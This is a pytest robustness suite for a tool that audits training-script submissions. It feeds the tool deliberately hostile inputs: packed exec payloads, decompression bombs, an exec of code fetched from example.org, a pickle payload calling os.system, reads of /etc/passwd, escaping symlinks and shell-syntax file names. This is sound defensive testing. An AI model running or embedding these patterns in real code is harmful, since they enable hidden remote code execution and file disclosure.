"""Whatever a folder holds: a verdict or a one-line error, and never another exception."""

from __future__ import annotations

import ast
import base64
import bz2
import functools
import json
import lzma
import os
import random
import subprocess
import sys
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import rules
from auditor.engine import audit
from auditor.errors import AuditorError, SourceError
from auditor.sources import open_submission
from auditor.submission import Change, RecordFolder, Submission, SubmissionFile, SubmissionKind
from auditor.verdict import Effect, Outcome, Overall, Status, Verdict
from reports import REPORTS

ROOT = Path(__file__).parent.parent
SUBMISSIONS = Path(__file__).parent / "fixtures" / "submissions"
BASELINE = (SUBMISSIONS / "clean-baseline" / "train_gpt.py").read_bytes()
RULES = {"prequant-ttt", "eval-subset", "smeargate-bos-leak", "external-binary"}
SAYS_SO = {"broken-script", "opaque-code"}  # what can't be read is what these two are about
READS_CODE = {rule.slug for rule in rules.discover() if rule.evidence[0] == "code"} - SAYS_SO


def judge(folder: Path) -> Verdict:
    """The verdict, checked for what every verdict has; each report can be written from it."""
    verdict = audit(open_submission(str(folder)))
    assert {o.rule for o in verdict.outcomes} >= RULES
    assert Verdict.model_validate_json(verdict.model_dump_json()) == verdict
    assert verdict.digest
    for build in REPORTS.values():
        assert build().render(verdict)
    return verdict


def statuses(verdict: Verdict) -> set[Status]:
    return {o.status for o in from_code(verdict)}


def write(folder: Path, **files: bytes | str) -> Path:
    """Files named with "__" for the dot."""
    for name, content in files.items():
        data = content.encode() if isinstance(content, str) else content
        (folder / name.replace("__", ".")).write_bytes(data)
    return folder


def from_code(verdict: Verdict) -> list[Outcome]:
    """The outcomes that rest on the script first: what logs and other files tell doesn't need it."""
    return [o for o in verdict.outcomes if o.rule in READS_CODE]


def reasons(verdict: Verdict) -> list[str]:
    return [o.reason for o in from_code(verdict)]


# -- scripts that can't be read -----------------------------------------------------------------------------

GARBAGE = random.Random(7).randbytes(40_000)
UNREADABLE = {
    "binary": GARBAGE,
    "gzip": b"\x1f\x8b\x08\x00" + GARBAGE,
    "elf": b"\x7fELF" + GARBAGE,
    "null bytes": b"\x00" * 1000,
    "half a character": b"x = '\xc3",
    "unclosed": b"def main(:\n    pass\n",
    "not Python": b"#include <stdio.h>\nint main(void) { return 0; }\n",
    "tabs and spaces": b"if x:\n\ty = 1\n        z = 2\n      w = 3\n",
    "only a bracket": b"(",
    "a null byte in a comment": b"# \x00\n" + BASELINE,
    "unknown coding": b"# coding: no-such-encoding\ndef f(:\n",
}


@pytest.mark.parametrize("name", UNREADABLE)
def test_unreadable_script_is_unknown(name: str, tmp_path: Path) -> None:
    verdict = judge(write(tmp_path, train_gpt__py=UNREADABLE[name]))
    assert statuses(verdict) == {Status.UNKNOWN}
    assert verdict.verdict is Overall.VIOLATIONS_FOUND  # it can't be run
    assert [o.rule for o in verdict.outcomes if o.effect is Effect.VIOLATION] == ["broken-script"]
    for outcome in from_code(verdict):
        assert "train_gpt.py" in outcome.reason
        assert outcome.reason.isprintable()


READABLE = {
    "UTF-8 BOM": b"\xef\xbb\xbf" + BASELINE,
    "UTF-16": BASELINE.decode().encode("utf-16"),
    "UTF-16 BE with BOM": b"\xfe\xff" + BASELINE.decode().encode("utf-16-be"),
    "latin-1 declared": b"# -*- coding: latin-1 -*-\n# caf\xe9\n" + BASELINE,
    "latin-1 not declared": b"# caf\xe9\n" + BASELINE,
    "wrong declaration": b"# coding: ascii\n# caf\xc3\xa9\n" + BASELINE,
    "declaration of no text encoding": b"# coding: rot13\n" + BASELINE,
    "unknown declaration": b"# coding: no-such-encoding\n" + BASELINE,
    "CRLF": BASELINE.replace(b"\n", b"\r\n"),
    "CR": BASELINE.replace(b"\n", b"\r"),
    "form feeds": BASELINE.replace(b"\n\n\n", b"\n\x0c\n\n"),
    "no newline at the end": BASELINE.rstrip(b"\n"),
    "control characters in a comment": b"# \x1b[31mred\x1b[0m \x07\n" + BASELINE,
    "surrogates": b"# \xed\xa0\x80\n" + BASELINE,
    "shebang": b"#!/usr/bin/env python3\n" + BASELINE,
}


@pytest.mark.parametrize("name", READABLE)
def test_oddly_encoded_script_is_still_read(name: str, tmp_path: Path) -> None:
    log = (SUBMISSIONS / "clean-baseline" / "train_seed42.log").read_bytes()
    verdict = judge(write(tmp_path, train_gpt__py=READABLE[name], train_seed42__log=log))
    assert Status.UNKNOWN not in statuses(verdict), reasons(verdict)
    assert verdict.run_config.reported.evaluation == "eval_val"


@pytest.mark.parametrize("content", [b"", b"\n\n", b"# nothing here\n", b"\xef\xbb\xbf", b'"""Words."""\n'])
def test_empty_script(content: bytes, tmp_path: Path) -> None:
    verdict = judge(write(tmp_path, train_gpt__py=content))
    assert Status.ACTIVE not in statuses(verdict)


# -- size ---------------------------------------------------------------------------------------------------

LINES = b"x = [1, 2, 3]  # the same line again and again, as a generated table would have it\n"
HUGE = {
    "code": LINES,
    "comments": b"# " + b"word " * 30 + b"\n",
    "one string": b"abcdefghij" * 100,
    "one line": b"x=1;",
    "blank": b"    \n",
    "no Python": b"0123456789 abcdef " * 4 + b"\n",
}


@pytest.mark.parametrize("name", [n for n in HUGE if n not in ("code", "one line")])
def test_fifty_megabytes_of_script(name: str, tmp_path: Path) -> None:
    piece = HUGE[name]
    data = piece * (50 * 1024 * 1024 // len(piece))
    if name == "one string":
        data = b'x = "' + data + b'"\n'
    verdict = judge(write(tmp_path, train_gpt__py=data))
    assert Status.ACTIVE not in statuses(verdict)


@pytest.mark.parametrize("name", ["code", "one line"])
def test_large_script_of_code(name: str, tmp_path: Path) -> None:
    # Every byte of it becomes part of a syntax tree, which is hundreds of times as large.
    piece = HUGE[name]
    verdict = judge(write(tmp_path, train_gpt__py=piece * (512 * 1024 // len(piece))))
    assert Status.ACTIVE not in statuses(verdict)


def test_script_beyond_the_bound_is_not_read(tmp_path: Path) -> None:
    with (tmp_path / "train_gpt.py").open("wb") as file:
        file.truncate(65 * 1024 * 1024)
    verdict = judge(tmp_path)
    assert statuses(verdict) == {Status.UNKNOWN}
    assert all("64 MiB" in reason for reason in reasons(verdict))


def test_fifty_megabytes_beside_the_script(tmp_path: Path) -> None:
    write(tmp_path, train_gpt__py=BASELINE, model__bin=b"\x00\x01" * (25 * 1024 * 1024))
    assert Status.UNKNOWN not in statuses(judge(tmp_path))


def test_log_of_ten_megabytes_in_one_line(tmp_path: Path) -> None:
    words = b"step:1/2 train_loss:1.5 val_bpb:1.2345 key=value "
    write(tmp_path, train_gpt__py=BASELINE, train_seed42__log=words * (10 * 1024 * 1024 // len(words)))
    assert Status.ACTIVE not in statuses(judge(tmp_path))


@pytest.mark.parametrize(
    "line",
    [b"a" * 4_000_000, b" " * 4_000_000, b"=" * 4_000_000, b"key=" * 1_000_000, b"1.2 " * 1_000_000,
     b"val_bpb " * 500_000, b"{" * 2_000_000, b"((((" * 500_000, b"Hyperparameters:\n" * 20_000,
     b"import os\n" * 40_000, b"\xff" * 2_000_000, b"\x00" * 2_000_000],
    ids=lambda line: repr(line[:12]),
)  # fmt: skip
def test_repetitive_logs(line: bytes, tmp_path: Path) -> None:
    write(tmp_path, train_gpt__py=BASELINE, train_seed42__log=line)
    judge(tmp_path)


def test_many_logs(tmp_path: Path) -> None:
    write(tmp_path, train_gpt__py=BASELINE)
    log = (SUBMISSIONS / "clean-baseline" / "train_seed42.log").read_bytes()
    for i in range(300):
        (tmp_path / f"train_seed{i}.log").write_bytes(log)
    assert Status.UNKNOWN not in statuses(judge(tmp_path))


# -- packed scripts that mean harm --------------------------------------------------------------------------


def nested(levels: int, inner: bytes) -> bytes:
    for _ in range(levels):
        payload = base64.b85encode(zlib.compress(inner)).decode()
        inner = f'import zlib, base64\nexec(zlib.decompress(base64.b85decode("{payload}")))\n'.encode()
    return inner


PACKERS: dict[str, Callable[[bytes], bytes]] = {
    "zlib": zlib.compress,
    "lzma": functools.partial(lzma.compress, preset=0),
    "bz2": bz2.compress,
}


def bomb(compress: str) -> bytes:
    """A small script that would come to more than 64 MiB of code. Packed twice, the growth is hidden."""
    pack = PACKERS[compress]
    code = b"x=1\n" * (1024 * 1024)
    # zlib reads one stream only; the others any number of them, which spares the test compressing it all.
    data = pack(pack(code * 17) if compress == "zlib" else pack(code) * 17)
    payload = base64.b85encode(data).decode()
    call = f"{compress}.decompress"
    return (f'import {compress}, base64\nb = base64.b85decode("{payload}")\nexec({call}({call}(b)))\n').encode()


@pytest.mark.parametrize("compress", PACKERS)
def test_decompression_bombs(compress: str, tmp_path: Path) -> None:
    verdict = judge(write(tmp_path, train_gpt__py=bomb(compress)))
    assert statuses(verdict) == {Status.UNKNOWN}
    assert verdict.verdict is Overall.NEEDS_REVIEW
    assert all("64 MiB" in reason for reason in reasons(verdict))


LIMITED = """
import resource, sys
resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))
from auditor.engine import audit
from auditor.sources import open_submission
print(audit(open_submission(sys.argv[1])).verdict.value)
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)
"""


@pytest.mark.skipif(sys.platform != "linux", reason="needs a bound on memory")
@pytest.mark.parametrize("packed", [False, True], ids=["shipped", "packed"])
def test_a_syntax_tree_of_gigabytes_is_not_built(packed: bool, tmp_path: Path) -> None:
    """Valid code within the bound on bytes still makes a tree some 600 times its size."""
    script = b"x=1\n" * (4 * 1024 * 1024)
    if packed:
        payload = base64.b85encode(zlib.compress(zlib.compress(script))).decode()
        inner = "zlib.decompress(zlib.decompress(base64.b85decode(p)))"
        script = f'import zlib, base64\np = "{payload}"\nexec({inner})\n'.encode()
    folder = write(tmp_path, train_gpt__py=script)
    command = [sys.executable, "-c", LIMITED, str(folder)]
    done = subprocess.run(command, capture_output=True, text=True, cwd=ROOT)
    assert done.returncode == 0, done.stderr[-300:]
    verdict, mebibytes = done.stdout.split()
    assert verdict == ("needs-review" if packed else "violations-found")  # 16.8 million bytes as shipped
    assert int(mebibytes) < 1500


@pytest.mark.parametrize(
    "script",
    [
        "import os\nexec(os.environ['CODE'])\n",
        "import urllib.request\nexec(urllib.request.urlopen('https://example.org/train.py').read())\n",
        "import zlib\nexec(zlib.decompress(open('/data/code.bin', 'rb').read()))\n",
        f"import bz2\nb = {bz2.compress(b'x=1;' * 1000)!r}\nexec(bz2.decompress(b) * 10**7)\n",
    ],
    ids=["environment", "network", "file elsewhere", "too large"],
)
def test_code_that_can_not_be_seen_is_not_called_clean(script: str, tmp_path: Path) -> None:
    log = (SUBMISSIONS / "clean-baseline" / "train_seed42.log").read_bytes()
    verdict = judge(write(tmp_path, train_gpt__py=script, train_seed42__log=log))
    assert verdict.verdict is Overall.NEEDS_REVIEW
    assert Status.CLEAN not in statuses(verdict), reasons(verdict)


def test_more_stages_than_are_followed(tmp_path: Path) -> None:
    verdict = judge(write(tmp_path, train_gpt__py=nested(12, BASELINE)))
    assert statuses(verdict) == {Status.UNKNOWN}


def test_a_few_stages_are_followed(tmp_path: Path) -> None:
    verdict = judge(write(tmp_path, train_gpt__py=nested(3, BASELINE)))
    assert Status.UNKNOWN not in statuses(verdict)


@pytest.mark.parametrize(
    "script",
    [
        "exec(open(__file__).read())",
        "exec('exec(s)' for s in 'x')",
        "import lzma\nexec(lzma.decompress(b'not packed at all' * 1000))",
        "import base64\nexec(base64.b85decode('~' * 100000))",
        "s = 'x'\nwhile True:\n    s += s\nexec(s)",
        "exec('a' * 10**15)",
        "import marshal, pickle\nexec(marshal.loads(b'x' * 5000))\npickle.loads(b'cos\\nsystem\\n(S\"true\"\\ntR.')",
        "import runpy\nrunpy.run_path('../../etc/passwd')\nexec(open('/etc/passwd').read())",
        "exec(open('../outside.py').read())",
    ],
)
def test_scripts_that_run_text(script: str, tmp_path: Path) -> None:
    inside = tmp_path / "inside"
    inside.mkdir()
    (tmp_path / "outside.py").write_bytes((SUBMISSIONS / "minified" / "train_gpt.py").read_bytes())
    verdict = judge(write(inside, train_gpt__py=script))
    assert Status.ACTIVE not in statuses(verdict)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["inside", "outside.py"]
    assert [p.name for p in inside.iterdir()] == ["train_gpt.py"]


def test_nothing_of_a_script_is_run(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    folder = tmp_path / "submission"
    folder.mkdir()
    code = f"open({str(marker)!r}, 'w').write('x')\nimport os\nos.system('touch {marker}')\n"
    packed = base64.b64encode(zlib.compress(code.encode())).decode()
    write(
        folder,
        train_gpt__py=code + f"import zlib, base64\nexec(zlib.decompress(base64.b64decode('{packed}')))\n",
        conftest__py=code,
        setup__py=code,
    )
    judge(folder)
    assert not marker.exists()


# -- nesting ------------------------------------------------------------------------------------------------

NESTED = {
    "brackets": "x = " + "(" * 10_000 + "1" + ")" * 10_000,
    "lists": "x = " + "[" * 10_000 + "]" * 10_000,
    "sum": "x = " + "+".join(["val_tokens"] * 10_000),
    "calls": "x = f" + "(1)" * 10_000,
    "attributes": "x = a" + ".b" * 10_000,
    "not": "if " + "not " * 10_000 + "x:\n    pass",
    "elif": "if a:\n    pass\n" + "elif a:\n    import subprocess\n" * 5_000,
    "functions": "\n".join(" " * i + f"def f{i}():" for i in range(95)) + "\n" + " " * 95 + "pass",
    "f-strings": "x = " + "f'{" * 200 + "1" + "}'" * 200,
}


@pytest.mark.parametrize("name", NESTED)
@pytest.mark.parametrize("place", ["alone", "after the baseline", "in a sibling"])
def test_deep_nesting(name: str, place: str, tmp_path: Path) -> None:
    nest = NESTED[name].encode() + b"\n"
    if place == "alone":
        write(tmp_path, train_gpt__py=nest)
    elif place == "after the baseline":
        write(tmp_path, train_gpt__py=BASELINE + b"\n" + nest)
    else:
        write(tmp_path, train_gpt__py=b"import helper\n" + BASELINE, helper__py=nest)
    judge(tmp_path)


def test_deep_json(tmp_path: Path) -> None:
    write(tmp_path, train_gpt__py=BASELINE, submission__json="[" * 100_000)
    judge(tmp_path)
    write(tmp_path, submission__json='{"val_bpb":' * 50_000 + "1.2" + "}" * 50_000)
    judge(tmp_path)


# -- folders ------------------------------------------------------------------------------------------------


def test_missing_folder_is_a_one_line_error(tmp_path: Path) -> None:
    with pytest.raises(SourceError) as caught:
        open_submission(str(tmp_path / "nowhere"))
    assert "\n" not in str(caught.value)


def test_empty_folder(tmp_path: Path) -> None:
    verdict = judge(tmp_path)
    assert statuses(verdict) == {Status.NOT_APPLICABLE}


def test_folder_of_documents(tmp_path: Path) -> None:
    verdict = judge(write(tmp_path, README__md="# Words\n", notes__txt="more\n"))
    assert statuses(verdict) == {Status.NOT_APPLICABLE}
    assert verdict.submission.kind == SubmissionKind.DOCUMENTS.value


def test_a_score_without_a_script(tmp_path: Path) -> None:
    folder = write(tmp_path, README__md="# Words\n", submission__json='{"track": "10min_16mb", "val_bpb": 1.2}\n')
    verdict = judge(folder)
    assert verdict.submission.kind == SubmissionKind.DOCUMENTS.value
    missing = next(o for o in verdict.outcomes if o.rule == "missing-files")
    assert missing.status is Status.ACTIVE
    assert "train_gpt.py" in missing.reason.lower()


def test_no_train_gpt(tmp_path: Path) -> None:
    verdict = judge(write(tmp_path, main__py=BASELINE, README__md="# Other name\n"))
    assert Status.UNKNOWN not in statuses(verdict)
    assert verdict.run_config.script == "main.py"


def test_no_python_but_a_shell_script(tmp_path: Path) -> None:
    verdict = judge(write(tmp_path, run__sh="torchrun train_gpt.py\n", submission__json='{"val_bpb": 1.2}'))
    assert Status.ACTIVE not in statuses(verdict)
    assert [o.rule for o in verdict.outcomes if o.effect is Effect.VIOLATION] == ["missing-files"]


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="no symbolic links here")
def test_links_out_of_the_folder_are_not_followed(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "train_gpt.py").write_bytes((SUBMISSIONS / "minified" / "train_gpt.py").read_bytes())
    (secret / "train_seed1.log").write_text("final val_bpb:0.1234\n")
    folder = tmp_path / "submission"
    folder.mkdir()
    (folder / "train_gpt.py").symlink_to(secret / "train_gpt.py")
    (folder / "train_seed1.log").symlink_to(secret / "train_seed1.log")
    (folder / "README.md").symlink_to("/etc/passwd")
    (folder / "submission.json").symlink_to(folder / "submission.json")
    (folder / "all").symlink_to(secret, target_is_directory=True)
    (folder / "loop").symlink_to(folder, target_is_directory=True)
    (folder / "broken.py").symlink_to(tmp_path / "nowhere.py")
    text = judge(folder).model_dump_json()
    assert "0.1234" not in text and "root:" not in text and "VAL_BATCHES" not in text


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no pipes here")
def test_pipes_are_not_waited_for(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "train_gpt.py")
    os.mkfifo(tmp_path / "train_seed42.log")
    judge(write(tmp_path, other__py=BASELINE))


def test_folder_that_disappears(tmp_path: Path) -> None:
    folder = write(tmp_path, train_gpt__py=BASELINE)
    submission = open_submission(str(folder))
    (folder / "train_gpt.py").unlink()
    with pytest.raises(AuditorError) as caught:
        audit(submission)
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize(
    "name",
    ["train gpt.py", "-rf.py", "ünïcode.py", "a\nb.py", "train_gpt.py.py", ".hidden.py", "$(x).py", "x" * 200 + ".py"],
)
def test_odd_file_names(name: str, tmp_path: Path) -> None:
    (tmp_path / name).write_bytes(BASELINE)
    judge(tmp_path)


def test_paths_that_point_out_of_the_folder() -> None:
    """Not possible on a disk, but a crafted tree can have them."""
    content = {"../../train_gpt.py": BASELINE, "a/../train_gpt.py": BASELINE, "/train_gpt.py": BASELINE}
    files = tuple(
        SubmissionFile(path, len(data), Change.ADDED, lambda data=data: data) for path, data in content.items()
    )
    folder = RecordFolder(".", "unknown", files)
    submission = Submission("made up", None, None, None, None, SubmissionKind.RECORD, (folder,), files)
    assert isinstance(audit(submission), Verdict)


# -- what stands beside the script --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    ["", "{", "[]", "null", "3", '"text"', "{}", '{"val_bpb": }', '{"val_bpb": "one point two"}', '{"val_bpb": null}',
     '{"val_bpb": NaN}', '{"val_bpb": Infinity}', '{"val_bpb": 1e999}', '{"val_bpb": -1}', '{"val_bpb": [1.2]}',
     '{"val_bpb": {"mean": {"mean": 1.2}}}', '{"val_bpb": true}', '{"val_bpb": 1.2, "val_bpb": 1.3}',
     '{"seeds": "42", "seed_results": [1, null, "x"]}', '{"seeds": {"42": {"val_bpb": "x"}}}',
     '{"val_bpb": 0x12}', "\x00\x01", '{"a": "\ud800"}', '// comment\n{"val_bpb": 1.2,}',
     '{"val_bpb": ' + "9" * 10_000 + "}", '{"track": 3, "name": [], "author": {}}'],
    ids=lambda text: ascii(text)[:30],
)  # fmt: skip
def test_broken_submission_json(text: str, tmp_path: Path) -> None:
    folder = write(tmp_path, train_gpt__py=BASELINE, submission__json=text.encode("utf-8", "surrogatepass"))
    assert Status.UNKNOWN not in statuses(judge(folder))


@pytest.mark.parametrize(
    "readme",
    [b"\xff\xfe\x00", GARBAGE, b"```bash\n" * 5_000, b"`" * 100_000, b"#" * 100_000, b"[" * 20_000,
     b"```bash\nSEED=\xff torchrun train_gpt.py --x '\n", b"```\nA='$(B=`C)` torchrun \\\n" * 500,
     b"| " * 20_000, b"> " * 5_000, b"* " * 5_000, b"```bash\nX=1 X=2 torchrun train_gpt.py --x= --=1 -- ;;& |\n"],
    ids=lambda readme: repr(readme[:14]),
)  # fmt: skip
def test_odd_readmes(readme: bytes, tmp_path: Path) -> None:
    judge(write(tmp_path, train_gpt__py=BASELINE, README__md=readme))


@pytest.mark.parametrize("log", [b"", b"\x00" * 5000, GARBAGE, b"val_bpb:nan\nval_bpb:inf\nval_bpb:1e9\n",
                                 "final val_bpb:1.2\n".encode("utf-16"), b"final val_bpb:1.2\rx\r"])  # fmt: skip
def test_odd_logs(log: bytes, tmp_path: Path) -> None:
    judge(write(tmp_path, train_gpt__py=BASELINE, train_seed42__log=log))


def test_siblings_that_can_not_be_read(tmp_path: Path) -> None:
    script = b"import broken, garbage, empty\nfrom package import thing\n" + BASELINE
    (tmp_path / "package.py").mkdir()
    write(tmp_path, train_gpt__py=script, broken__py=b"def f(:\n", garbage__py=GARBAGE, empty__py=b"")
    assert Status.ACTIVE not in statuses(judge(tmp_path))


# -- mutations ----------------------------------------------------------------------------------------------

SCRIPTS = [
    path.read_text(encoding="utf-8")
    for path in sorted([*SUBMISSIONS.glob("*/train_gpt.py"), SUBMISSIONS.parent / "packed_source.py"])
]
OTHERS = ("README.md", "submission.json", "train_seed42.log")


@st.composite
def mutated(draw: st.DrawFn, texts: list[str]) -> str:
    """One of the texts with some of its lines deleted, doubled, swapped, cut short or taken from another."""
    lines = draw(st.sampled_from(texts)).split("\n")
    donor = draw(st.sampled_from(texts)).split("\n")
    for _ in range(draw(st.integers(1, 12))):
        if not lines:
            break
        at = draw(st.integers(0, len(lines) - 1))
        other = draw(st.integers(0, len(lines) - 1))
        what = draw(st.sampled_from(("delete", "double", "swap", "cut", "take", "indent", "join")))
        if what == "delete":
            del lines[at : at + draw(st.integers(1, 5))]
        elif what == "double":
            lines.insert(at, lines[at])
        elif what == "swap":
            lines[at], lines[other] = lines[other], lines[at]
        elif what == "cut":
            lines[at] = lines[at][: draw(st.integers(0, len(lines[at])))]
        elif what == "take":
            lines.insert(at, donor[other % len(donor)])
        elif what == "indent":
            lines[at] = " " * draw(st.integers(0, 12)) + lines[at].lstrip()
        else:
            lines[at] = "; ".join(line.strip() for line in lines[at : at + 2])
    return "\n".join(lines)


def in_memory(files: dict[str, str]) -> Submission:
    made = tuple(
        SubmissionFile(path, len(text), Change.ADDED, lambda text=text: text.encode("utf-8", "surrogatepass"))
        for path, text in sorted(files.items())
    )
    folder = RecordFolder(".", "unknown", made)
    return Submission("made up", None, None, None, None, SubmissionKind.RECORD, (folder,), made)


QUICK = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@QUICK
@given(mutated(SCRIPTS))
def test_mutated_scripts_are_judged(script: str) -> None:
    submission = in_memory({"train_gpt.py": script})
    assert isinstance(audit(submission), Verdict)


@QUICK
@given(st.data())
def test_mutated_submissions_are_judged(data: st.DataObject) -> None:
    folder = data.draw(st.sampled_from(sorted(p for p in SUBMISSIONS.glob("*/train_gpt.py"))), "folder").parent
    files = {path.name: path.read_text(encoding="utf-8") for path in sorted(folder.iterdir())}
    name = data.draw(st.sampled_from([n for n in OTHERS if n in files]), "file")
    files[name] = data.draw(mutated([files[name]]), "content")
    verdict = audit(in_memory(files))
    for outcome in verdict.outcomes:
        assert isinstance(outcome, Outcome) and outcome.reason
    assert audit(in_memory(files)).digest == verdict.digest


def parsing_mutations(script: str, seed: int) -> str:
    """Statements of a script in another order: it parses, and means something else."""
    tree = ast.parse(script)
    chance = random.Random(seed)
    for node in ast.walk(tree):
        for name in ("body", "orelse"):
            body = getattr(node, name, None)
            if isinstance(body, list) and len(body) > 1 and chance.random() < 0.4:
                chance.shuffle(body)
                if chance.random() < 0.3:
                    body.append(chance.choice(body))
                if len(body) > 2 and chance.random() < 0.3:
                    body.pop()
    return ast.unparse(ast.fix_missing_locations(tree))


def valid(script: str) -> bool:
    try:
        compile(script, "script", "exec", dont_inherit=True)
    except SyntaxError:
        return False
    return True


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from([s for s in SCRIPTS if valid(s)]), st.integers(0, 10**6))
def test_shuffled_statements_are_judged(script: str, seed: int) -> None:
    files = {"train_gpt.py": parsing_mutations(script, seed), "submission.json": json.dumps({"val_bpb": 1.2})}
    assert isinstance(audit(in_memory(files)), Verdict)
